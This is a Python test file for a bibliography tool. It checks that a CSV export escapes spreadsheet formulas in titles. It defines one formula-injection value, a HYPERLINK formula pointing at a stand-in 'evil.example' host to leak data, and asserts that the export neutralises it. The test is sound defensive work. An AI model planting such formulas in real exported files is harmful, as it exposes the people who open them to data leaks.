"""The labelling list of ``bibmine rubrics suggest-labels`` is safe to open (issue 17, part 4).

One INVENTED work whose title is a spreadsheet formula joins the bundled INVENTED demo corpus.
"""

from __future__ import annotations

import csv

from bibmine.corpus.ingest import Ingestor
from bibmine.corpus.model import Identifiers, Kind, Record, Text
from bibmine.corpus.store import Corpus
from bibmine.rubrics.corpus_ops import suggest_labels
from bibmine.rubrics.model import RubricModel

LINK = '=HYPERLINK("http://evil.example/?leak","click")'


def test_suggested_titles_are_neutralised(tmp_path, small_model_dir):
    out = tmp_path / "suggest.csv"
    with Corpus(tmp_path / "c.sqlite") as corpus:
        batch = corpus.start_batch("file", "invented")
        Ingestor(corpus).add(Record(source="invented", raw="r1", kind=Kind.ARTICLE, year=2022,
                                    titles=[Text(LINK, "en")], ids=Identifiers(doi="10.5555/safe.9"),
                                    abstracts=[Text("Soil organic carbon of chernozems under crops.", "en")]), batch)
        assert suggest_labels(corpus, RubricModel.load(small_model_dir), 1, out) == 1
    with open(out, encoding="utf-8", newline="") as fh:
        row = next(csv.DictReader(fh))
    assert row["title"] == "'" + LINK
    assert 0.0 <= float(row["uncertainty"]) <= 1.0  # still a number
